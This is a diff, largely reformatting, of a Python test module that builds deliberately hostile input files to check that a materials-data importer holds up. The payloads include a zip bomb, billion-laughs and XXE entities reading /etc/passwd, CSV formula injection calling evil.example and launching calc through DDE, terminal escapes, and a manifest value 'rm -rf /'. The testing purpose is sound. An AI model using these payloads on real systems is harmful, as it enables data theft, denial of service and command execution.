@@ -28,6 +28,7 @@ def hostile(name: str) -> Callable[[Builder], Builder]:
         assert name not in CORPUS, name
         CORPUS[name] = builder
         return builder
+
     return register
 
 
@@ -53,19 +54,27 @@ _CONTENT_TYPES = (
     '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
     '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
     '<Override PartName="/xl/styles.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.styles+xml"/>'
-    '</Types>')
-_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-         '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
-         'Target="xl/workbook.xml"/></Relationships>')
-_WORKBOOK = ('<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
-             'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
-             '<sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>')
+    "</Types>"
+)
+_RELS = (
+    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
+    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
+    'Target="xl/workbook.xml"/></Relationships>'
+)
+_WORKBOOK = (
+    '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
+    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
+    '<sheet name="Data" sheetId="1" r:id="rId1"/></sheets></workbook>'
+)
 _WORKBOOK_RELS = (
     '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
     '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
     '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
     '<Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>'
-    '</Relationships>')
+    "</Relationships>"
+)
+
+
 def _styles() -> bytes:
     """The styles part of a workbook as openpyxl writes it (readers are strict about styles)."""
     import io
@@ -78,7 +87,7 @@ def _styles() -> bytes:
         return archive.read("xl/styles.xml")
 
 
-_SHEET_HEAD = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
+_SHEET_HEAD = '<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
 
 
 def _inline(reference: str, text: str) -> str:
@@ -89,29 +98,50 @@ def _rows(cells: list[list[str]]) -> str:
     """Inline-string rows from 1, the usual header and rows."""
     out = []
     for number, row in enumerate(cells, start=1):
-        out.append(f'<row r="{number}">' + "".join(
-            _inline(f"{chr(65 + column)}{number}", text) for column, text in enumerate(row)) + "</row>")
+        out.append(
+            f'<row r="{number}">'
+            + "".join(_inline(f"{chr(65 + column)}{number}", text) for column, text in enumerate(row))
+            + "</row>"
+        )
     return "".join(out)
 
 
 _TABLE = HEADER.strip().split(","), BAD_ROW.strip().split(",")
 
 
-def _workbook(folder: Path, name: str, *, sheet_data: str | bytes | None = None, shared: str | bytes = "",
-              sheet: str | bytes | None = None, members: dict[str, bytes] | None = None,
-              compression: int = zipfile.ZIP_DEFLATED) -> Path:
+def _workbook(
+    folder: Path,
+    name: str,
+    *,
+    sheet_data: str | bytes | None = None,
+    shared: str | bytes = "",
+    sheet: str | bytes | None = None,
+    members: dict[str, bytes] | None = None,
+    compression: int = zipfile.ZIP_DEFLATED,
+) -> Path:
     path = folder / name
     if sheet is None:
         data = sheet_data if sheet_data is not None else _rows(list(_TABLE))
         head = _SHEET_HEAD.encode() + b"<sheetData>"
         sheet = head + (data.encode() if isinstance(data, str) else data) + b"</sheetData></worksheet>"
-    shared_xml = shared if isinstance(shared, bytes) else (
-        '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-        f"{shared}</sst>").encode()
-    parts = {"[Content_Types].xml": _CONTENT_TYPES.encode(), "_rels/.rels": _RELS.encode(),
-             "xl/workbook.xml": _WORKBOOK.encode(), "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS.encode(),
-             "xl/styles.xml": _styles(), "xl/sharedStrings.xml": shared_xml,
-             "xl/worksheets/sheet1.xml": sheet if isinstance(sheet, bytes) else sheet.encode(), **(members or {})}
+    shared_xml = (
+        shared
+        if isinstance(shared, bytes)
+        else (
+            '<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+            f"{shared}</sst>"
+        ).encode()
+    )
+    parts = {
+        "[Content_Types].xml": _CONTENT_TYPES.encode(),
+        "_rels/.rels": _RELS.encode(),
+        "xl/workbook.xml": _WORKBOOK.encode(),
+        "xl/_rels/workbook.xml.rels": _WORKBOOK_RELS.encode(),
+        "xl/styles.xml": _styles(),
+        "xl/sharedStrings.xml": shared_xml,
+        "xl/worksheets/sheet1.xml": sheet if isinstance(sheet, bytes) else sheet.encode(),
+        **(members or {}),
+    }
     with zipfile.ZipFile(path, "w", compression) as archive:
         for member, content in parts.items():
             archive.writestr(member, content)
@@ -120,75 +150,113 @@ def _workbook(folder: Path, name: str, *, sheet_data: str | bytes | None = None,
 
 @hostile("xlsx-one-cell-at-XFD1048576")
 def _far_cell(folder):
-    return _workbook(folder, "far.xlsx", sheet_data=_rows(list(_TABLE)) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')
+    return _workbook(
+        folder, "far.xlsx", sheet_data=_rows(list(_TABLE)) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+    )
 
 
 @hostile("xlsx-single-quoted-far-cell")
 def _single_quoted(folder):
-    return _workbook(folder, "quoted.xlsx", sheet_data=_rows(list(_TABLE)) + "<row r='1048576'><c r = 'XFD1048576'><v>1</v></c></row>")
+    return _workbook(
+        folder,
+        "quoted.xlsx",
+        sheet_data=_rows(list(_TABLE)) + "<row r='1048576'><c r = 'XFD1048576'><v>1</v></c></row>",
+    )
 
 
 @hostile("xlsx-sheet-outside-the-worksheets-folder")
 def _moved_sheet(folder):
-    far = (_SHEET_HEAD + "<sheetData>" + _rows(list(_TABLE)) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
-           "</sheetData></worksheet>").encode()
+    far = (
+        _SHEET_HEAD + "<sheetData>" + _rows(list(_TABLE)) + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
+        "</sheetData></worksheet>"
+    ).encode()
     rels = _WORKBOOK_RELS.replace('Target="worksheets/sheet1.xml"', 'Target="data/hidden/sheet1.xml"').encode()
-    return _workbook(folder, "moved.xlsx", members={"xl/_rels/workbook.xml.rels": rels, "xl/data/hidden/sheet1.xml": far})
+    return _workbook(
+        folder, "moved.xlsx", members={"xl/_rels/workbook.xml.rels": rels, "xl/data/hidden/sheet1.xml": far}
+    )
 
 
 @hostile("xlsx-extent-past-20M-cells")
 def _tall(folder):
-    return _workbook(folder, "tall.xlsx", sheet_data=_rows(list(_TABLE)) + '<row r="1048576"><c r="Z1048576"><v>1</v></c></row>')
+    return _workbook(
+        folder, "tall.xlsx", sheet_data=_rows(list(_TABLE)) + '<row r="1048576"><c r="Z1048576"><v>1</v></c></row>'
+    )
 
 
 @hostile("xlsx-dimension-lies")
 def _dimension(folder):
-    sheet = (_SHEET_HEAD + '<dimension ref="A1:XFD1048576"/><sheetData>' + _rows(list(_TABLE)) + "</sheetData></worksheet>")
+    sheet = (
+        _SHEET_HEAD + '<dimension ref="A1:XFD1048576"/><sheetData>' + _rows(list(_TABLE)) + "</sheetData></worksheet>"
+    )
     return _workbook(folder, "dimension.xlsx", sheet=sheet)
 
 
 @hostile("xlsx-zip-bomb-200MB-of-spaces")
 def _zip_bomb(folder):
-    sheet = _SHEET_HEAD.encode() + b"<sheetData>" + _rows(list(_TABLE)).encode() + b" " * (200 << 20) + b"</sheetData></worksheet>"
+    sheet = (
+        _SHEET_HEAD.encode()
+        + b"<sheetData>"
+        + _rows(list(_TABLE)).encode()
+        + b" " * (200 << 20)
+        + b"</sheetData></worksheet>"
+    )
     return _workbook(folder, "bomb.xlsx", sheet=sheet)
 
 
 @hostile("xlsx-shared-string-300MB")
 def _huge_shared(folder):
-    shared = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
-              b"<si><t>" + b"a" * (300 << 20) + b"</t></si></sst>")
-    return _workbook(folder, "shared.xlsx", shared=shared, sheet_data=_rows(list(_TABLE)) + '<row r="3"><c r="A3" t="s"><v>0</v></c></row>')
+    shared = (
+        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
+        b"<si><t>" + b"a" * (300 << 20) + b"</t></si></sst>"
+    )
+    return _workbook(
+        folder,
+        "shared.xlsx",
+        shared=shared,
+        sheet_data=_rows(list(_TABLE)) + '<row r="3"><c r="A3" t="s"><v>0</v></c></row>',
+    )
 
 
 @hostile("xlsx-shared-string-index-out-of-range")
 def _shared_index(folder):
-    return _workbook(folder, "index.xlsx", sheet_data=_rows(list(_TABLE)) + '<row r="3"><c r="A3" t="s"><v>99999999</v></c></row>')
+    return _workbook(
+        folder, "index.xlsx", sheet_data=_rows(list(_TABLE)) + '<row r="3"><c r="A3" t="s"><v>99999999</v></c></row>'
+    )
 
 
 @hostile("xlsx-million-styled-empty-rows")
 def _styled_rows(folder):
-    empty = "".join(f'<row r="{n}" spans="1:5" s="0" customFormat="1"><c r="A{n}" s="0"/><c r="B{n}" s="0"/></row>'
-                    for n in range(3, 1_000_003))
+    empty = "".join(
+        f'<row r="{n}" spans="1:5" s="0" customFormat="1"><c r="A{n}" s="0"/><c r="B{n}" s="0"/></row>'
+        for n in range(3, 1_000_003)
+    )
     return _workbook(folder, "styled.xlsx", sheet_data=_rows(list(_TABLE)) + empty)
 
 
 @hostile("xlsx-billion-laughs-entities")
 def _laughs(folder):
     entities = '<!ENTITY lol "lol">' + "".join(
-        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10))
-    sheet = (f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [{entities}]>'
-             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
-             + _rows(list(_TABLE)) + '<row r="3"><c r="A3" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
-             "</sheetData></worksheet>")
+        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
+    )
+    sheet = (
+        f'<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [{entities}]>'
+        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+        + _rows(list(_TABLE))
+        + '<row r="3"><c r="A3" t="inlineStr"><is><t>&lol9;</t></is></c></row>'
+        "</sheetData></worksheet>"
+    )
     return _workbook(folder, "laughs.xlsx", sheet=sheet)
 
 
 @hostile("xlsx-external-entity")
 def _external_entity(folder):
-    sheet = ('<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
-             '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
-             + _rows(list(_TABLE)) + '<row r="3"><c r="A3" t="inlineStr"><is><t>&secret;</t></is></c></row>'
-             "</sheetData></worksheet>")
+    sheet = (
+        '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
+        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
+        + _rows(list(_TABLE))
+        + '<row r="3"><c r="A3" t="inlineStr"><is><t>&secret;</t></is></c></row>'
+        "</sheetData></worksheet>"
+    )
     return _workbook(folder, "xxe.xlsx", sheet=sheet)
 
 
@@ -210,20 +278,38 @@ def _random_xlsx(folder):
 
 @hostile("xlsx-malformed-sheet-xml")
 def _malformed(folder):
-    return _workbook(folder, "malformed.xlsx", sheet=_SHEET_HEAD + "<sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>x")
+    return _workbook(
+        folder, "malformed.xlsx", sheet=_SHEET_HEAD + "<sheetData><row r='1'><c r='A1' t='inlineStr'><is><t>x"
+    )
 
 
 @hostile("xlsx-deeply-nested-xml")
 def _nested_xml(folder):
-    sheet = _SHEET_HEAD + "<sheetData>" + _rows(list(_TABLE)) + "<x>" * 200_000 + "</x>" * 200_000 + "</sheetData></worksheet>"
+    sheet = (
+        _SHEET_HEAD
+        + "<sheetData>"
+        + _rows(list(_TABLE))
+        + "<x>" * 200_000
+        + "</x>" * 200_000
+        + "</sheetData></worksheet>"
+    )
     return _workbook(folder, "nested.xlsx", sheet=sheet)
 
 
 @hostile("xlsx-uncomputed-formula")
 def _formula(folder):
-    return _workbook(folder, "formula.xlsx", sheet_data=_rows([_TABLE[0]]) + '<row r="2">' + _inline("A2", "X")
-                     + _inline("B2", "polymer") + _inline("C2", "tensile strength") + '<c r="D2"><f>1/0</f></c>'
-                     + _inline("E2", "MPa") + "</row>")
+    return _workbook(
+        folder,
+        "formula.xlsx",
+        sheet_data=_rows([_TABLE[0]])
+        + '<row r="2">'
+        + _inline("A2", "X")
+        + _inline("B2", "polymer")
+        + _inline("C2", "tensile strength")
+        + '<c r="D2"><f>1/0</f></c>'
+        + _inline("E2", "MPa")
+        + "</row>",
+    )
 
 
 @hostile("xlsx-no-sheets")
@@ -242,6 +328,7 @@ def _many_members(folder):
 
 
 # --- delimited text ----------------------------------------------------------------------------------
+
 
 @hostile("csv-million-column-header")
 def _wide(folder):
@@ -285,8 +372,12 @@ def _utf16(folder):
 
 @hostile("csv-mixed-encodings")
 def _mixed(folder):
-    return _bytes(folder, "mixed.csv", (HEADER + "Élastomère,polymer,tensile strength,10,MPa\n").encode("utf-8")
-                  + "Mixé,polymer,tensile strength,10,MPa\n".encode("cp1252"))
+    return _bytes(
+        folder,
+        "mixed.csv",
+        (HEADER + "Élastomère,polymer,tensile strength,10,MPa\n").encode("utf-8")
+        + "Mixé,polymer,tensile strength,10,MPa\n".encode("cp1252"),
+    )
 
 
 @hostile("csv-invalid-utf8-lead")
@@ -316,7 +407,11 @@ def _cr(folder):
 
 @hostile("csv-200k-rows-of-bad-units")
 def _bad_units(folder):
-    return _csv(folder, "units.csv", HEADER + "".join(f"M{i},polymer,tensile strength,{i},furlongs{i}\n" for i in range(200_000)))
+    return _csv(
+        folder,
+        "units.csv",
+        HEADER + "".join(f"M{i},polymer,tensile strength,{i},furlongs{i}\n" for i in range(200_000)),
+    )
 
 
 @hostile("csv-rows-wider-than-header")
@@ -366,8 +461,11 @@ def _nested_unit(folder):
 
 @hostile("csv-unit-huge-exponent")
 def _unit_exponent(folder):
-    return _csv(folder, "unit-exp.csv", HEADER + "X,polymer,tensile strength,10,MPa**99999999\n"
-                "Y,polymer,tensile strength,10,m**10**10\n")
+    return _csv(
+        folder,
+        "unit-exp.csv",
+        HEADER + "X,polymer,tensile strength,10,MPa**99999999\nY,polymer,tensile strength,10,m**10**10\n",
+    )
 
 
 @hostile("csv-unit-10k-divisions")
@@ -387,13 +485,21 @@ def _header_unit(folder):
 
 @hostile("csv-formula-cells")
 def _formulas(folder):
-    return _csv(folder, "formulas.csv", HEADER + '=HYPERLINK("http://evil.example/?"&A2),polymer,tensile strength,ten,MPa\n'
-                "+cmd|' /C calc'!A0,polymer,tensile strength,10,MPa\n")
+    return _csv(
+        folder,
+        "formulas.csv",
+        HEADER + '=HYPERLINK("http://evil.example/?"&A2),polymer,tensile strength,ten,MPa\n'
+        "+cmd|' /C calc'!A0,polymer,tensile strength,10,MPa\n",
+    )
 
 
 @hostile("csv-terminal-escapes-and-bidi")
 def _escapes(folder):
-    return _csv(folder, "escapes.csv", HEADER + "\x1b[2J\x1b]8;;http://evil.example\x07X\u202e\x7f,polymer,tensile strength,ten,MPa\n")
+    return _csv(
+        folder,
+        "escapes.csv",
+        HEADER + "\x1b[2J\x1b]8;;http://evil.example\x07X\u202e\x7f,polymer,tensile strength,ten,MPa\n",
+    )
 
 
 @hostile("csv-one-megabyte-name")
@@ -403,13 +509,19 @@ def _long_name(folder):
 
 @hostile("csv-100k-synonyms")
 def _synonyms(folder):
-    return _csv(folder, "synonyms.csv", "Material,Synonyms,Class,Property,Value,Unit\n"
-                f'X,"{";".join(f"s{i}" for i in range(100_000))}",polymer,tensile strength,ten,MPa\n')
+    return _csv(
+        folder,
+        "synonyms.csv",
+        "Material,Synonyms,Class,Property,Value,Unit\n"
+        f'X,"{";".join(f"s{i}" for i in range(100_000))}",polymer,tensile strength,ten,MPa\n',
+    )
 
 
 @hostile("tsv-quote-storm")
 def _quote_storm(folder):
-    return _csv(folder, "quotes.tsv", HEADER.replace(",", "\t") + ('"' * 100_000) + "\tpolymer\ttensile strength\t1\tMPa\n")
+    return _csv(
+        folder, "quotes.tsv", HEADER.replace(",", "\t") + ('"' * 100_000) + "\tpolymer\ttensile strength\t1\tMPa\n"
+    )
 
 
 @hostile("csv-bom-then-garbage-header")
@@ -419,9 +531,11 @@ def _bom(folder):
 
 # --- structures --------------------------------------------------------------------------------------
 
+
 def _structure_file(folder: Path, name: str, smiles: str) -> Path:
-    return _csv(folder, name, "Material,Class,SMILES,Property,Value,Unit\n"
-                f"X,polymer,{smiles},tensile strength,10,MPa\n")
+    return _csv(
+        folder, name, f"Material,Class,SMILES,Property,Value,Unit\nX,polymer,{smiles},tensile strength,10,MPa\n"
+    )
 
 
 @hostile("smiles-5000-atom-ring")
@@ -431,7 +545,9 @@ def _ring(folder):
 
 @hostile("smiles-60x60-grid")
 def _grid(folder):
-    return _structure_file(folder, "grid.csv", ".".join("".join(f"C%{10 + c % 80}" for c in range(60)) for _ in range(60)))
+    return _structure_file(
+        folder, "grid.csv", ".".join("".join(f"C%{10 + c % 80}" for c in range(60)) for _ in range(60))
+    )
 
 
 @hostile("smiles-100k-characters")
@@ -456,11 +572,15 @@ def _isotope(folder):
 
 @hostile("smiles-many-ring-closures")
 def _closures(folder):
-    return _structure_file(folder, "closures.csv", "C" + "".join(f"%{n}" for n in range(10, 99)) * 4
-                           + "C" + "".join(f"%{n}" for n in range(10, 99)) * 4)
+    return _structure_file(
+        folder,
+        "closures.csv",
+        "C" + "".join(f"%{n}" for n in range(10, 99)) * 4 + "C" + "".join(f"%{n}" for n in range(10, 99)) * 4,
+    )
 
 
 # --- JSON ---------------------------------------------------------------------------------------------
+
 
 @hostile("json-sparse-20k-keys")
 def _sparse(folder):
@@ -469,8 +589,12 @@ def _sparse(folder):
 
 @hostile("json-duplicate-keys")
 def _json_duplicates(folder):
-    return _csv(folder, "dupkeys.json", '[{"Material": "X", "Class": "polymer", "Property": "tensile strength", '
-                '"Value": "10", "Value": "20", "Unit": "MPa"}]')
+    return _csv(
+        folder,
+        "dupkeys.json",
+        '[{"Material": "X", "Class": "polymer", "Property": "tensile strength", '
+        '"Value": "10", "Value": "20", "Unit": "MPa"}]',
+    )
 
 
 @hostile("json-nested-100k-deep")
@@ -480,8 +604,21 @@ def _json_deep(folder):
 
 @hostile("json-nested-objects-in-cells")
 def _json_objects(folder):
-    return _csv(folder, "objects.json", json.dumps([{"Material": {"a": [1, {"b": 2}]}, "Class": "polymer",
-                                                     "Property": "tensile strength", "Value": [1, 2], "Unit": "MPa"}]))
+    return _csv(
+        folder,
+        "objects.json",
+        json.dumps(
+            [
+                {
+                    "Material": {"a": [1, {"b": 2}]},
+                    "Class": "polymer",
+                    "Property": "tensile strength",
+                    "Value": [1, 2],
+                    "Unit": "MPa",
+                }
+            ]
+        ),
+    )
 
 
 @hostile("json-top-level-scalar")
@@ -501,17 +638,25 @@ def _json_truncated(folder):
 
 @hostile("json-nan-literals")
 def _json_nan(folder):
-    return _csv(folder, "nan.json", '[{"Material": "X", "Class": "polymer", "Property": "tensile strength", '
-                '"Value": NaN, "Unit": "MPa"}, {"Material": "Y", "Value": Infinity}]')
+    return _csv(
+        folder,
+        "nan.json",
+        '[{"Material": "X", "Class": "polymer", "Property": "tensile strength", '
+        '"Value": NaN, "Unit": "MPa"}, {"Material": "Y", "Value": Infinity}]',
+    )
 
 
 @hostile("json-lone-surrogates")
 def _json_surrogates(folder):
-    return _csv(folder, "surrogates.json", '[{"Material": "X\\ud800", "Class": "polymer", "Property": '
-                '"tensile strength", "Value": "ten", "Unit": "MPa"}]')
+    return _csv(
+        folder,
+        "surrogates.json",
+        '[{"Material": "X\\ud800", "Class": "polymer", "Property": "tensile strength", "Value": "ten", "Unit": "MPa"}]',
+    )
 
 
 # --- manifests ----------------------------------------------------------------------------------------
+
 
 def _with_manifest(folder: Path, name: str, manifest: str, data: str = HEADER + GOOD_ROW) -> Path:
     path = _csv(folder, name, data)
@@ -553,13 +698,18 @@ def _manifest_types(folder):
 
 @hostile("manifest-unknown-keys-and-bad-temperature")
 def _manifest_unknown(folder):
-    return _with_manifest(folder, "unknown.csv", '[conditions]\ntemperature = "hot"\n[columns."Value"]\nexec = "rm -rf /"\n')
+    return _with_manifest(
+        folder, "unknown.csv", '[conditions]\ntemperature = "hot"\n[columns."Value"]\nexec = "rm -rf /"\n'
+    )
 
 
 @hostile("manifest-column-keys-of-the-wrong-type")
 def _manifest_column_types(folder):
-    return _with_manifest(folder, "column-types.csv", '[columns."Value"]\nunit = 5\nproperty = ["a", "b"]\n'
-                          '[columns."Unit"]\nconditions = "hot"\n')
+    return _with_manifest(
+        folder,
+        "column-types.csv",
+        '[columns."Value"]\nunit = 5\nproperty = ["a", "b"]\n[columns."Unit"]\nconditions = "hot"\n',
+    )
 
 
 @hostile("manifest-bad-doi")
